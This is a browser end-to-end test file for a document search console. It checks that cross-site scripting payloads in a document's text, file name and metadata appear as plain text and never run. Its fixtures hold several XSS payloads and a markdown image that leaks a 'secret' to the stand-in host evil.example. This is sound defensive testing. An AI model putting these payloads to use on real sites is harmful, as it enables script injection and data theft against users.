"""Documents that try to run scripts: their text, title, file name and attributes are shown, and nothing runs."""

from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Open
from tests.e2e.support import LocalStack

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("console")]

SCRIPT = "<img src=x onerror=window.pwned=1><script>window.pwned=1</script>"
NAME = "pwned-<img src=x onerror=window.pwned=1>.md"
TEXT = f"""# Zanzibar rules {SCRIPT}

The Zanzibar permit costs 17 dollars {SCRIPT} and is valid for a year. [click](javascript:window.pwned=1)
![leak](https://evil.example/leak.png?secret)
"""


@pytest.fixture(scope="module")
def hostile(stack: LocalStack) -> str:
    """A document in the index, whose every part is hostile."""
    uri = stack.put(NAME, TEXT)
    stack.put(f"{NAME}.metadata.json", '{"metadataAttributes": {"topic": "<b onclick=window.pwned=1>x</b>"}}')
    assert stack.settled(uri)[uri] in ("INDEXED", "PARTIALLY_INDEXED")
    return uri


ADDRESSES = (
    f"#/ask?q={quote('How much does the Zanzibar permit cost?')}",
    f"#/search?q={quote('Zanzibar permit')}",
    "#/documents?name=pwned",
    f"#/ask?q={quote(SCRIPT)}&corpus={quote(SCRIPT)}",
)


def test_hostile_text_is_shown_as_text(visit: Open, hostile: str) -> None:
    page = visit("#/nowhere", user="olga")

    for address in ADDRESSES:
        page.evaluate(f"location.hash = '{address}'")
        # With "corpus" nothing is found; in every other place, the hostile text is shown as it is written.
        expect(page.locator("main")).to_contain_text("<img src=x onerror=window.pwned=1>")
        assert page.evaluate("() => window.pwned") is None
        assert page.locator("main img, main script, main a[href^='javascript']").count() == 0


def test_a_hostile_original_is_shown_as_text(visit: Open, hostile: str) -> None:
    page = visit(f"#/ask?q={quote('How much does the Zanzibar permit cost?')}", user="olga")

    page.get_by_role("button", name="Open source 1", exact=True).click()

    text = page.get_by_role("dialog").locator(".text")
    expect(text).to_contain_text("![leak](https://evil.example/leak.png?secret)")
    assert page.evaluate("() => window.pwned") is None
